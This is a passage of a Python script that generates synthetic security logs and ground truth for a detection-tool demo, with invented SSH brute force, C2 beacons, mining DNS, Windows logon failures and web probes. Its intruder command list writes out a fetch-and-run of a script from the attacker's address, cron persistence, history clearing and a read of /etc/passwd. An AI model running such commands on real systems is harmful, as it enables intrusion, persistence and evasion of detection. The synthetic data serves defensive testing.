#!/usr/bin/env python3
"""Generate Argus's bundled demo: evidence files, webhook alerts and ground truth.

The demo is one day, 2026-08-02 (UTC), of invented logs from a small AWS and
Windows estate. Five incidents sit in ordinary background traffic:

1. SSH brute force against gacrux, then a password login as ec2-user from a
   second address, reconnaissance, a downloaded script and a cron job.
2. Command-and-control beacons from gacrux to port 4444 and one large upload.
3. Cryptomining DNS lookups (coinhive.com, pool.minexmr.com) from mercury.
4. Windows logon failures (event 4625) against hildegard.
5. SQL injection, XSS, path traversal and scanner probes against brewertalk.

Outputs, relative to the repository root:

- demo/evidence/: the log files (syslog text and Splunk JSON-lines exports).
- demo/alerts/: one Splunk webhook payload per incident.
- demo/STORY.md and demo/story.json: the counts and ATT&CK techniques, as
  generated, for tests to compare against.

The script uses only the standard library and a fixed seed, so every run
writes byte-identical files. It ends with a self-check that re-reads the
written files, recounts them with plain string tests and exits non-zero on
any mismatch.

Usage: python3 scripts/gen_demo.py [--root PATH]
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import json
import random
import re
import sys
import urllib.parse
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path

SEED = 20260802
DAY = datetime(2026, 8, 2, tzinfo=timezone.utc)

GACRUX = "gacrux.i-0920036c8ca91e501"
GACRUX_IP = "172.31.5.20"
MERCURY = "mercury.i-0920036c8ca91e501"
MERCURY_IP = "172.31.7.44"
SIRIUS = "sirius.i-0920036c8ca91e501"
SIRIUS_IP = "172.31.9.12"
VEGA = "vega.i-0920036c8ca91e501"
VEGA_IP = "172.31.3.87"
BASTION_IP = "172.31.12.8"
VPC_RESOLVER = "172.31.0.2"
HILDEGARD = "hildegard"
HILDEGARD_IP = "10.0.1.15"
BREWERTALK = "brewertalk"
BREWERTALK_IP = "10.0.2.30"
BREWERTALK_RESOLVER = "10.0.0.2"
SITE = "brewertalk.example.com"

SSH_ATTACKER = "5.101.40.81"
SSH_INTRUDER = "91.207.175.249"
C2_IP = SSH_INTRUDER
C2_PORT = 4444
WIN_ATTACKER = "192.168.250.100"
WEB_ATTACKER = "45.77.65.211"

SPLUNK_WEB = "http://splunk.example.com:8000"
SPLUNK_APP = "argus_alerts"
SPLUNK_OWNER = "nobody"
INDEXER = "splunk-idx01"

# Benign public peers come from the documentation ranges of RFC 5737.
BENIGN_PEERS = [
    "203.0.113.10", "203.0.113.25", "203.0.113.77",
    "198.51.100.14", "198.51.100.40", "198.51.100.200",
]
# Answers for the mining domains come from 192.0.2.0/24 (also RFC 5737).
MINER_ANSWERS = {
    "coinhive.com": "192.0.2.10",
    "ws001.coinhive.com": "192.0.2.11",
    "ws002.coinhive.com": "192.0.2.12",
    "ws003.coinhive.com": "192.0.2.13",
    "ws004.coinhive.com": "192.0.2.14",
    "ws005.coinhive.com": "192.0.2.15",
    "pool.minexmr.com": "192.0.2.50",
}


def at(hour: int, minute: int, second: float = 0.0) -> datetime:
    """Returns a UTC instant on the demo day."""
    return DAY + timedelta(hours=hour, minutes=minute, seconds=second)


def syslog_time(t: datetime) -> str:
    """Formats rsyslog's RFC 3339 high-precision timestamp."""
    return t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "+00:00"


def splunk_time(t: datetime) -> str:
    """Formats `_time` as Splunk's JSON export writes it (milliseconds, offset)."""
    return t.isoformat(timespec="milliseconds")


def stream_time(t: datetime) -> str:
    """Formats a Splunk Stream timestamp (microseconds, `Z`)."""
    return t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z"


def epoch(t: datetime) -> int:
    return int(t.timestamp())


@dataclass
class Record:
    """One event: its time and the line written to the evidence file."""

    time: datetime
    line: str
    fields: dict = field(default_factory=dict)


def write_lines(path: Path, records: list[Record]) -> None:
    """Writes records sorted by time, keeping generation order for equal times."""
    path.parent.mkdir(parents=True, exist_ok=True)
    ordered = sorted(records, key=lambda r: r.time)
    with path.open("w", encoding="utf-8", newline="\n") as out:
        for record in ordered:
            out.write(record.line + "\n")


def splunk_json(t: datetime, raw: str, host: str, source: str, sourcetype: str,
                fields: dict) -> Record:
    """Builds one Splunk JSON-lines export row, with every field value as a string."""
    row = {
        "_time": splunk_time(t),
        "_raw": raw,
        "host": host,
        "source": source,
        "sourcetype": sourcetype,
        "index": "main",
    }
    row.update({name: str(value) for name, value in fields.items()})
    return Record(t, json.dumps(row, ensure_ascii=False, separators=(",", ":")), row)


class Pids:
    """Process ids that grow like a busy host's, one counter per host."""

    def __init__(self, rng: random.Random, start: int):
        self.rng = rng
        self.current = start

    def next(self) -> int:
        self.current += self.rng.randint(1, 40)
        return self.current


# ---------------------------------------------------------------------------
# gacrux: /var/log/secure


# Accounts that exist on gacrux. sshd logs "Invalid user" for any other name.
GACRUX_ACCOUNTS = {"root", "ec2-user", "postgres", "deploy", "jmartin"}
# The attacker's wordlist of account names, with how often each is tried.
SSH_TARGETS = [
    ("root", 30), ("admin", 12), ("ubuntu", 8), ("ec2-user", 8), ("test", 6),
    ("oracle", 5), ("postgres", 5), ("user", 4), ("guest", 3), ("ftpuser", 3),
    ("git", 3), ("hadoop", 2), ("pi", 2), ("support", 2),
]


class SecureLog:
    """Collects gacrux's /var/log/secure lines in rsyslog's ISO format."""

    def __init__(self, rng: random.Random):
        self.rng = rng
        self.records: list[Record] = []
        self.pids = Pids(rng, 1800)

    def add(self, t: datetime, program: str, pid: int, message: str) -> None:
        line = f"{syslog_time(t)} {GACRUX} {program}[{pid}]: {message}"
        self.records.append(Record(t, line))

    def jitter(self, t: datetime, low: float, high: float) -> datetime:
        return t + timedelta(seconds=self.rng.uniform(low, high))


def brute_force_connection(log: SecureLog, start: datetime, user: str, attempts: int,
                           facts: dict) -> None:
    """Writes one attacker connection: failed passwords, then sshd's disconnect lines."""
    rng = log.rng
    pid = log.pids.next()
    port = rng.randint(32768, 60999)
    valid = user in GACRUX_ACCOUNTS
    # sshd names an existing account as "authenticating user X" once it ends a
    # connection, and an unknown one as "invalid user X" throughout.
    account_label = user if valid else f"invalid user {user}"
    closing_label = f"authenticating user {user}" if valid else account_label
    peer = f"{SSH_ATTACKER} port {port}"
    t = start
    if not valid:
        log.add(t, "sshd", pid, f"Invalid user {user} from {SSH_ATTACKER} port {port}")
        facts["invalid_user_lines"] += 1
    for attempt in range(attempts):
        t = log.jitter(t, 0.05, 0.4)
        if not valid:
            log.add(t, "sshd", pid, "pam_unix(sshd:auth): check pass; user unknown")
        if attempt == 0:
            suffix = f"  user={user}" if valid else ""
            log.add(t, "sshd", pid, "pam_unix(sshd:auth): authentication failure; logname= "
                    f"uid=0 euid=0 tty=ssh ruser= rhost={SSH_ATTACKER}{suffix}")
        t = log.jitter(t, 1.6, 3.2)
        log.add(t, "sshd", pid, f"Failed password for {account_label} from {peer} ssh2")
        facts["failed"].append((t, user, log.records[-1]))
    t = log.jitter(t, 0.1, 0.9)
    if attempts == 6:
        log.add(t, "sshd", pid, "error: maximum authentication attempts exceeded for "
                f"{account_label} from {peer} ssh2 [preauth]")
        log.add(t, "sshd", pid, f"Disconnecting {closing_label} {peer}: "
                "Too many authentication failures [preauth]")
    elif rng.random() < 0.7:
        log.add(t, "sshd", pid, f"Received disconnect from {peer}:11: Bye Bye [preauth]")
        log.add(t, "sshd", pid, f"Disconnected from {closing_label} {peer} [preauth]")
    else:
        log.add(t, "sshd", pid, f"Connection closed by {closing_label} {peer} [preauth]")
    if attempts > 1 and attempts < 6:
        suffix = f"  user={user}" if valid else ""
        log.add(t, "sshd", pid, f"PAM {attempts - 1} more authentication failures; logname= "
                f"uid=0 euid=0 tty=ssh ruser= rhost={SSH_ATTACKER}{suffix}")


def gen_brute_force(log: SecureLog) -> dict:
    """Writes the 09:00-09:45 password guessing from SSH_ATTACKER."""
    rng = log.rng
    names = [name for name, _ in SSH_TARGETS]
    weights = [weight for _, weight in SSH_TARGETS]
    facts = {"failed": [], "invalid_user_lines": 0, "connections": 0}
    start = at(9, 0, 3.123456)
    end = at(9, 44, 20)
    t = start
    while t < end:
        user = rng.choices(names, weights)[0]
        attempts = rng.choice([1, 2, 3, 3, 3, 4, 6])
        brute_force_connection(log, t, user, attempts, facts)
        facts["connections"] += 1
        t = log.jitter(t, 5.5, 8.5)
    return facts


def session_lines(log: SecureLog, start: datetime, user: str, src: str, method: str,
                  minutes: float, sudo_commands: list[str]) -> datetime:
    """Writes a complete interactive SSH session and returns its end time."""
    rng = log.rng
    pid = log.pids.next()
    port = rng.randint(32768, 60999)
    if method == "publickey":
        fingerprint = base64.b64encode(rng.randbytes(32)).decode().rstrip("=")
        detail = f": ED25519 SHA256:{fingerprint}"
    else:
        detail = ""
    log.add(start, "sshd", pid, f"Accepted {method} for {user} from {src} port {port} ssh2{detail}")
    log.add(log.jitter(start, 0.01, 0.05), "sshd", pid,
            f"pam_unix(sshd:session): session opened for user {user} by (uid=0)")
    t = start
    for command in sudo_commands:
        t = log.jitter(t, 20, 90)
        sudo_pid = log.pids.next()
        log.add(t, "sudo", sudo_pid, f"  {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; "
                f"COMMAND={command}")
        log.add(log.jitter(t, 0.01, 0.03), "sudo", sudo_pid,
                f"pam_unix(sudo:session): session opened for user root by {user}(uid=1001)")
        log.add(log.jitter(t, 1, 4), "sudo", sudo_pid,
                "pam_unix(sudo:session): session closed for user root")
    end = max(t, start + timedelta(minutes=minutes)) + timedelta(seconds=rng.uniform(1, 30))
    log.add(end, "sshd", pid, f"Received disconnect from {src} port {port}:11: "
            "disconnected by user")
    log.add(end, "sshd", pid, f"Disconnected from user {user} {src} port {port}")
    log.add(log.jitter(end, 0.01, 0.05), "sshd", pid,
            f"pam_unix(sshd:session): session closed for user {user}")
    return end


def gen_secure_background(log: SecureLog) -> dict:
    """Writes cron sessions, admin logins with sudo, and one mistyped password."""
    rng = log.rng
    # gacrux was taken off the network at 12:00, so its logs stop there.
    for hour in range(12):
        t = at(hour, 1, rng.uniform(0, 2))
        pid = log.pids.next()
        log.add(t, "crond", pid, "pam_unix(crond:session): session opened for user root by (uid=0)")
        log.add(log.jitter(t, 0.2, 1.5), "crond", pid,
                "pam_unix(crond:session): session closed for user root")
    sessions = [
        (at(1, 12, 7.5), "deploy", ["/usr/bin/systemctl status nginx"]),
        (at(3, 40, 12.0), "deploy", ["/usr/bin/systemctl restart nginx"]),
        (at(6, 5, 44.2), "jmartin", ["/usr/bin/dnf check-update"]),
        (at(7, 31, 2.9), "deploy", ["/usr/bin/journalctl -u nginx --since today"]),
        (at(8, 15, 30.0), "jmartin", []),
        (at(10, 42, 18.6), "deploy", ["/usr/bin/systemctl reload nginx"]),
        (at(11, 20, 51.3), "jmartin", ["/usr/bin/tail -n 50 /var/log/messages"]),
    ]
    for start, user, commands in sessions:
        session_lines(log, start, user, BASTION_IP, "publickey", rng.uniform(4, 25), commands)
    # jmartin mistypes a password twice before logging in: benign failures.
    typo_start = at(8, 14, 50.0)
    pid = log.pids.next()
    port = rng.randint(32768, 60999)
    t = typo_start
    for _ in range(2):
        t = log.jitter(t, 2, 6)
        log.add(t, "sshd", pid, f"Failed password for jmartin from {BASTION_IP} port {port} ssh2")
    return {"benign_failed_password": 2, "benign_failed_password_src": BASTION_IP}


def gen_intruder_login(log: SecureLog) -> dict:
    """Writes the 09:52 password login as ec2-user and its end at 09:59."""
    rng = log.rng
    pid = log.pids.next()
    port = rng.randint(32768, 60999)
    login = at(9, 52, 11.482913)
    log.add(login, "sshd", pid,
            f"Accepted password for ec2-user from {SSH_INTRUDER} port {port} ssh2")
    log.add(login + timedelta(microseconds=20871), "sshd", pid,
            "pam_unix(sshd:session): session opened for user ec2-user by (uid=0)")
    logout = at(9, 59, 41.307115)
    log.add(logout, "sshd", pid, f"Received disconnect from {SSH_INTRUDER} port {port}:11: "
            "disconnected by user")
    log.add(logout, "sshd", pid, f"Disconnected from user ec2-user {SSH_INTRUDER} port {port}")
    log.add(logout + timedelta(microseconds=3120), "sshd", pid,
            "pam_unix(sshd:session): session closed for user ec2-user")
    return {"user": "ec2-user", "src_ip": SSH_INTRUDER, "src_port": port, "time": login,
            "logout": logout, "sshd_pid": pid}


def gen_cron_persistence(log: SecureLog) -> list[datetime]:
    """Writes crond sessions for ec2-user's */5 job, 10:00 until gacrux left the network."""
    runs = []
    for minute in range(0, 120, 5):
        t = at(10, 0, 0.4) + timedelta(minutes=minute, seconds=log.rng.uniform(0, 0.6))
        pid = log.pids.next()
        log.add(t, "crond", pid,
                "pam_unix(crond:session): session opened for user ec2-user by (uid=0)")
        log.add(log.jitter(t, 0.3, 1.0), "crond", pid,
                "pam_unix(crond:session): session closed for user ec2-user")
        runs.append(t)
    return runs


# ---------------------------------------------------------------------------
# gacrux: process creation events (sysmon:linux)


# Each typed command: (seconds after 09:53:00, command line, image, techniques).
# `history -c` is a shell builtin and the crontab line is a pipeline, so no single
# exec matches them. Both are recorded with the shell as the image.
RECON_COMMANDS = [
    (4.1, "whoami", "/usr/bin/whoami", ["T1033"]),
    (9.8, "id", "/usr/bin/id", ["T1033"]),
    (17.2, "uname -a", "/usr/bin/uname", ["T1082"]),
    (31.5, "cat /etc/passwd", "/usr/bin/cat", ["T1087", "T1087.001"]),
    (52.0, "ps aux", "/usr/bin/ps", ["T1057"]),
    (78.4, "netstat -antp", "/usr/bin/netstat", ["T1049"]),
    (101.9, "ifconfig", "/usr/sbin/ifconfig", ["T1016"]),
    (119.3, "cat /etc/os-release", "/usr/bin/cat", ["T1082"]),
    (174.6, f"wget http://{C2_IP}/x.sh -O /tmp/x.sh", "/usr/bin/wget", ["T1105"]),
    (189.0, "chmod +x /tmp/x.sh", "/usr/bin/chmod", ["T1222", "T1222.002"]),
    (203.7, "/tmp/x.sh", "/tmp/x.sh", ["T1059", "T1059.004"]),
    (266.2, '(crontab -l; echo "*/5 * * * * /tmp/x.sh") | crontab -', "/bin/bash",
     ["T1053", "T1053.003"]),
    (331.8, "history -c", "/bin/bash", ["T1070", "T1070.003"]),
]


def process_record(t: datetime, user: str, image: str, command: str, parent: str,
                   pid: int) -> Record:
    raw = (f'EventID=1 User={user} Image={image} CommandLine="{command}" '
           f"ParentImage={parent} ProcessId={pid}")
    fields = {"EventID": 1, "User": user, "Image": image, "CommandLine": command,
              "ParentImage": parent, "ProcessId": pid}
    return splunk_json(t, raw, GACRUX, "/var/log/messages", "sysmon:linux", fields)


def gen_processes(rng: random.Random, login: datetime, cron_runs: list[datetime]) -> dict:
    """Writes the intruder's shell, its commands, the cron job and benign activity."""
    pids = Pids(rng, 4100)
    records = []
    shell_pid = pids.next()
    records.append(process_record(login + timedelta(seconds=0.9), "ec2-user", "/bin/bash",
                                  "-bash", "/usr/sbin/sshd", shell_pid))
    commands = []
    base = at(9, 53, 0)
    for offset, command, image, techniques in RECON_COMMANDS:
        t = base + timedelta(seconds=offset, microseconds=rng.randint(0, 999) * 1000)
        pid = pids.next()
        records.append(process_record(t, "ec2-user", image, command, "/bin/bash", pid))
        commands.append({"time": t, "command": command, "image": image, "pid": pid,
                         "techniques": techniques})
    for t in cron_runs:
        records.append(process_record(t + timedelta(seconds=0.2), "ec2-user", "/bin/sh",
                                      "/bin/sh -c /tmp/x.sh", "/usr/sbin/crond", pids.next()))
    records.extend(benign_processes(rng, pids))
    return {"records": records, "commands": commands, "shell_pid": shell_pid,
            "cron_runs": len(cron_runs)}


def benign_processes(rng: random.Random, pids: Pids) -> list[Record]:
    """Builds hourly run-parts, the daily logrotate and a few admin commands."""
    records = []
    for hour in range(12):
        t = at(hour, 1, rng.uniform(0.5, 2.5))
        records.append(process_record(t, "root", "/usr/bin/run-parts",
                                      "run-parts /etc/cron.hourly", "/usr/sbin/crond",
                                      pids.next()))
    t = at(3, 22, 4.7)
    records.append(process_record(t, "root", "/usr/sbin/logrotate",
                                  "/usr/sbin/logrotate /etc/logrotate.conf", "/usr/sbin/crond",
                                  pids.next()))
    admin = [
        (at(1, 13, 2.0), "root", "/usr/bin/systemctl", "systemctl status nginx", "/usr/bin/sudo"),
        (at(3, 41, 9.0), "root", "/usr/bin/systemctl", "systemctl restart nginx", "/usr/bin/sudo"),
        (at(6, 6, 30.0), "root", "/usr/bin/dnf", "dnf check-update", "/usr/bin/sudo"),
        (at(7, 32, 11.0), "deploy", "/usr/bin/git", "git -C /srv/app pull --ff-only", "/bin/bash"),
        (at(8, 16, 40.0), "jmartin", "/usr/bin/df", "df -h", "/bin/bash"),
        (at(10, 43, 20.0), "root", "/usr/bin/systemctl", "systemctl reload nginx",
         "/usr/bin/sudo"),
        (at(11, 21, 58.0), "root", "/usr/bin/tail", "tail -n 50 /var/log/messages",
         "/usr/bin/sudo"),
    ]
    for t, user, image, command, parent in admin:
        records.append(process_record(t, user, image, command, parent, pids.next()))
    return records


# ---------------------------------------------------------------------------
# Network: Splunk Stream exports (stream:tcp, stream:dns, stream:http)


def stream_record(t: datetime, host: str, sourcetype: str, raw_fields: dict,
                  duration: float) -> Record:
    """Builds a Stream event: `_raw` is Stream's JSON, the fields are its strings."""
    raw = {"timestamp": stream_time(t), "endtime": stream_time(t + timedelta(seconds=duration))}
    raw.update(raw_fields)
    raw["time_taken"] = int(duration * 1_000_000)
    fields = {}
    for name, value in raw_fields.items():
        fields[name] = value[0] if isinstance(value, list) else value
    text = json.dumps(raw, separators=(",", ":"))
    return splunk_json(t, text, host, sourcetype, sourcetype, fields)


def tcp_flow(t: datetime, host: str, src_ip: str, src_port: int, dest_ip: str, dest_port: int,
             bytes_in: int, bytes_out: int, app: str, duration: float) -> Record:
    """Builds a TCP flow, where bytes_out counts bytes sent by src_ip and bytes_in received."""
    raw_fields = {
        "src_ip": src_ip, "src_port": src_port, "dest_ip": dest_ip, "dest_port": dest_port,
        "bytes_in": bytes_in, "bytes_out": bytes_out, "bytes": bytes_in + bytes_out,
        "packets_in": max(1, bytes_in // 1200), "packets_out": max(1, bytes_out // 1200),
        "protocol": "tcp", "app": app,
    }
    return stream_record(t, host, "stream:tcp", raw_fields, duration)


def gen_c2(rng: random.Random, login: datetime) -> dict:
    """Writes gacrux's download, its beacons to port 4444 and the 11:30 upload."""
    records = []
    download_time = at(9, 55, 54.9)
    download = tcp_flow(download_time, GACRUX, GACRUX_IP, rng.randint(40000, 60000), C2_IP, 80,
                        18_732, 186, "http", 0.41)
    records.append(download)
    ssh_session = tcp_flow(login - timedelta(seconds=2.1), GACRUX, SSH_INTRUDER,
                           rng.randint(40000, 60000), GACRUX_IP, 22, 41_288, 9_604, "ssh",
                           (at(9, 59, 41.3) - login).total_seconds() + 2.1)
    records.append(ssh_session)
    beacons = []
    t = at(10, 0, 4.211)
    upload_time = at(11, 30, 12.604)
    while t < at(12, 0, 0):
        tasked = rng.random() < 0.08
        bytes_in = rng.randint(1_800, 4_200) if tasked else rng.randint(96, 180)
        bytes_out = rng.randint(220, 420)
        beacons.append(tcp_flow(t, GACRUX, GACRUX_IP, rng.randint(40000, 60999), C2_IP, C2_PORT,
                                bytes_in, bytes_out, "tcp", rng.uniform(0.2, 0.9)))
        t += timedelta(seconds=60 + rng.uniform(-7, 7))
    upload_bytes = 6_815_744 + rng.randint(1, 400_000)
    upload = tcp_flow(upload_time, GACRUX, GACRUX_IP, rng.randint(40000, 60999), C2_IP, C2_PORT,
                      2_914, upload_bytes, "tcp", 41.7)
    records.extend(beacons)
    records.append(upload)
    return {"records": records, "beacons": beacons, "upload": upload, "download": download}


def gen_tcp_background(rng: random.Random) -> list[Record]:
    """Writes routine HTTPS from several hosts to benign public addresses."""
    sources = [(GACRUX, GACRUX_IP), (MERCURY, MERCURY_IP), (SIRIUS, SIRIUS_IP),
               (VEGA, VEGA_IP), (BREWERTALK, BREWERTALK_IP)]
    records = []
    t = at(0, 0, 7.0)
    while t < at(23, 59, 0):
        host, ip = rng.choice(sources)
        # gacrux was taken off the network at 12:00.
        if not (host == GACRUX and t >= at(12, 0, 0)):
            records.append(tcp_flow(t, host, ip, rng.randint(32768, 60999),
                                    rng.choice(BENIGN_PEERS), 443, rng.randint(2_000, 240_000),
                                    rng.randint(500, 6_000), "ssl", rng.uniform(0.1, 8.0)))
        t += timedelta(seconds=rng.uniform(60, 420))
    return records


def dns_query(t: datetime, host: str, src_ip: str, resolver: str, query: str, query_type: str,
              answer: str, rng: random.Random) -> Record:
    raw_fields = {
        "src_ip": src_ip, "src_port": rng.randint(32768, 60999), "dest_ip": resolver,
        "dest_port": 53, "transport": "udp", "transaction_id": rng.randint(1, 65535),
        "query": [query], "query_type": [query_type], "reply_code": "NoError",
        "answer": [answer], "bytes_in": rng.randint(60, 90), "bytes_out": rng.randint(28, 45),
    }
    return stream_record(t, host, "stream:dns", raw_fields, rng.uniform(0.0005, 0.004))


BENIGN_DOMAINS = [
    ("ec2.us-east-1.amazonaws.com", "A"), ("s3.us-east-1.amazonaws.com", "A"),
    ("sts.amazonaws.com", "A"), ("ssm.us-east-1.amazonaws.com", "A"),
    ("us-east-1.ec2.archive.ubuntu.com", "A"), ("security.ubuntu.com", "A"),
    ("github.com", "A"), ("api.github.com", "A"), ("github.com", "AAAA"),
    ("ntp.ubuntu.com", "A"),
]


def gen_mining(rng: random.Random) -> dict:
    """Writes mercury's mining-pool lookups, 13:00-15:00, ending on coinhive.com."""
    names = ["coinhive.com", "ws001.coinhive.com", "ws002.coinhive.com", "ws003.coinhive.com",
             "ws004.coinhive.com", "ws005.coinhive.com"]
    weights = [5, 2, 2, 2, 2, 2]
    records = []
    queries = []
    t = at(13, 0, 2.513)
    end = at(14, 59, 30)
    while t < end:
        if rng.random() < 0.05:
            query = "pool.minexmr.com"
        else:
            query = rng.choices(names, weights)[0]
        queries.append((t, query))
        t += timedelta(seconds=rng.uniform(15, 40))
    # The miner's last lookup before the alert ran is the pool's main domain.
    queries.append((at(14, 59, 48.027), "coinhive.com"))
    for t, query in queries:
        records.append(dns_query(t, MERCURY, MERCURY_IP, VPC_RESOLVER, query, "A",
                                 MINER_ANSWERS[query], rng))
    return {"records": records, "queries": queries}


def gen_dns_background(rng: random.Random) -> list[Record]:
    sources = [(GACRUX, GACRUX_IP, VPC_RESOLVER), (MERCURY, MERCURY_IP, VPC_RESOLVER),
               (SIRIUS, SIRIUS_IP, VPC_RESOLVER), (VEGA, VEGA_IP, VPC_RESOLVER),
               (BREWERTALK, BREWERTALK_IP, BREWERTALK_RESOLVER)]
    records = []
    t = at(0, 0, 31.0)
    while t < at(23, 59, 0):
        host, ip, resolver = rng.choice(sources)
        if not (host == GACRUX and t >= at(12, 0, 0)):
            query, query_type = rng.choice(BENIGN_DOMAINS)
            if query_type == "AAAA":
                answer = "2001:db8::" + format(rng.randint(1, 0xFFFF), "x")
            else:
                answer = rng.choice(BENIGN_PEERS)
            records.append(dns_query(t, host, ip, resolver, query, query_type, answer, rng))
        t += timedelta(seconds=rng.uniform(60, 300))
    return records


# ---------------------------------------------------------------------------
# hildegard: WinEventLog:Security


WIN_BAD_PASSWORD = "0xC000006A"
WIN_NO_SUCH_USER = "0xC0000064"
# Accounts the attacker tried, with attempt counts and whether the account exists.
WIN_TARGETS = [
    ("Administrator", 40, True), ("admin", 25, False), ("svc_backup", 25, True),
    ("jsmith", 20, True), ("backup", 10, False), ("test", 10, False),
    ("user", 10, False), ("sqladmin", 10, False),
]
WIN_ATTACKER_WORKSTATION = "DESKTOP-7Q1M2K"


def win_time(t: datetime) -> str:
    return t.strftime("%m/%d/%Y %I:%M:%S %p")


def win_logon_failure_raw(t: datetime, record_number: int, account: str, sub_status: str,
                          workstation: str, source_ip: str, source_port: int) -> str:
    lines = [
        win_time(t), "LogName=Security", "EventCode=4625", "EventType=0",
        f"ComputerName={HILDEGARD}", "SourceName=Microsoft Windows security auditing.",
        "Type=Information", f"RecordNumber={record_number}", "Keywords=Audit Failure",
        "TaskCategory=Logon", "OpCode=Info", "Message=An account failed to log on.", "",
        "Subject:", "\tSecurity ID:\t\tS-1-0-0", "\tAccount Name:\t\t-",
        "\tAccount Domain:\t\t-", "\tLogon ID:\t\t0x0", "", "Logon Type:\t\t\t3", "",
        "Account For Which Logon Failed:", "\tSecurity ID:\t\tS-1-0-0",
        f"\tAccount Name:\t\t{account}", f"\tAccount Domain:\t\t{HILDEGARD.upper()}", "",
        "Failure Information:", "\tFailure Reason:\t\tUnknown user name or bad password.",
        "\tStatus:\t\t\t0xC000006D", f"\tSub Status:\t\t{sub_status}", "",
        "Process Information:", "\tCaller Process ID:\t0x0", "\tCaller Process Name:\t-", "",
        "Network Information:", f"\tWorkstation Name:\t{workstation}",
        f"\tSource Network Address:\t{source_ip}", f"\tSource Port:\t\t{source_port}", "",
        "Detailed Authentication Information:", "\tLogon Process:\t\tNtLmSsp ",
        "\tAuthentication Package:\tNTLM", "\tTransited Services:\t-",
        "\tPackage Name (NTLM only):\t-", "\tKey Length:\t\t0",
    ]
    return "\n".join(lines)


def win_logon_success_raw(t: datetime, record_number: int, account: str, domain: str,
                          logon_type: int, workstation: str, source_ip: str,
                          source_port: int, logon_id: str) -> str:
    package = "Kerberos" if domain == "CORP" else "NTLM"
    process = "Kerberos" if package == "Kerberos" else "NtLmSsp "
    lines = [
        win_time(t), "LogName=Security", "EventCode=4624", "EventType=0",
        f"ComputerName={HILDEGARD}", "SourceName=Microsoft Windows security auditing.",
        "Type=Information", f"RecordNumber={record_number}", "Keywords=Audit Success",
        "TaskCategory=Logon", "OpCode=Info", "Message=An account was successfully logged on.",
        "", "Subject:", "\tSecurity ID:\t\tS-1-0-0", "\tAccount Name:\t\t-",
        "\tAccount Domain:\t\t-", "\tLogon ID:\t\t0x0", "", "Logon Information:",
        f"\tLogon Type:\t\t{logon_type}", "", "New Logon:",
        f"\tSecurity ID:\t\t{domain}\\{account}", f"\tAccount Name:\t\t{account}",
        f"\tAccount Domain:\t\t{domain}", f"\tLogon ID:\t\t{logon_id}", "",
        "Network Information:", f"\tWorkstation Name:\t{workstation}",
        f"\tSource Network Address:\t{source_ip}", f"\tSource Port:\t\t{source_port}", "",
        "Detailed Authentication Information:", f"\tLogon Process:\t\t{process}",
        f"\tAuthentication Package:\t{package}",
    ]
    return "\n".join(lines)


@dataclass
class WinEvent:
    time: datetime
    code: int
    account: str
    source_ip: str
    workstation: str
    logon_type: int = 3
    sub_status: str = ""
    domain: str = "CORP"


def win_record(event: WinEvent, record_number: int, rng: random.Random) -> Record:
    port = rng.randint(49152, 65535)
    fields = {"EventCode": event.code, "Account_Name": event.account,
              "Source_Network_Address": event.source_ip, "Logon_Type": event.logon_type,
              "Workstation_Name": event.workstation, "ComputerName": HILDEGARD,
              "Source_Port": port, "RecordNumber": record_number}
    if event.code == 4625:
        raw = win_logon_failure_raw(event.time, record_number, event.account, event.sub_status,
                                    event.workstation, event.source_ip, port)
        fields.update({"Failure_Reason": "Unknown user name or bad password.",
                       "Status": "0xC000006D", "Sub_Status": event.sub_status,
                       "Keywords": "Audit Failure"})
    else:
        logon_id = "0x" + format(rng.randint(0x100000, 0xFFFFFFF), "X")
        raw = win_logon_success_raw(event.time, record_number, event.account, event.domain,
                                    event.logon_type, event.workstation, event.source_ip, port,
                                    logon_id)
        fields["Keywords"] = "Audit Success"
    return splunk_json(event.time, raw, HILDEGARD, "WinEventLog:Security",
                       "WinEventLog:Security", fields)


def gen_windows(rng: random.Random) -> dict:
    """Writes the 16:00-16:20 logon failures and the day's ordinary logons."""
    attempts = []
    for account, count, exists in WIN_TARGETS:
        sub_status = WIN_BAD_PASSWORD if exists else WIN_NO_SUCH_USER
        attempts.extend([(account, sub_status)] * count)
    rng.shuffle(attempts)
    events = []
    t = at(16, 0, 1.0)
    step = (20 * 60 - 30) / len(attempts)
    for account, sub_status in attempts:
        events.append(WinEvent(t, 4625, account, WIN_ATTACKER, WIN_ATTACKER_WORKSTATION,
                               sub_status=sub_status, domain=HILDEGARD.upper()))
        t += timedelta(seconds=step * rng.uniform(0.6, 1.4))
    attack = list(events)
    events.extend(windows_background(rng))
    events.sort(key=lambda e: e.time)
    records = [win_record(event, 184_000 + n, rng) for n, event in enumerate(events)]
    return {"records": records, "attack": attack}


def windows_background(rng: random.Random) -> list[WinEvent]:
    """Builds ordinary logons, and one user who mistypes a password twice."""
    users = [("svc_sql", "10.0.1.21", "SQL01", 3), ("jsmith", "10.0.1.40", "WS-JSMITH", 3),
             ("mwong", "10.0.1.52", "WS-MWONG", 3), ("backup_agent", "10.0.1.60", "BKP01", 3),
             ("jsmith", "10.0.1.40", "WS-JSMITH", 10)]
    events = []
    t = at(6, 30, 12.0)
    while t < at(20, 0, 0):
        account, ip, workstation, logon_type = rng.choice(users)
        events.append(WinEvent(t, 4624, account, ip, workstation, logon_type))
        t += timedelta(seconds=rng.uniform(300, 900))
    typo = at(9, 14, 3.0)
    for seconds in (0.0, 6.2):
        events.append(WinEvent(typo + timedelta(seconds=seconds), 4625, "mwong", "10.0.1.52",
                               "WS-MWONG", sub_status=WIN_BAD_PASSWORD,
                               domain=HILDEGARD.upper()))
    events.append(WinEvent(typo + timedelta(seconds=14.8), 4624, "mwong", "10.0.1.52",
                           "WS-MWONG", 3))
    return events


# ---------------------------------------------------------------------------
# brewertalk: stream:http


SQLMAP_AGENT = "sqlmap/1.7#stable (https://sqlmap.org)"
NIKTO_AGENT = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{test:06d})"
BROWSER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0.0.0 Safari/537.36",
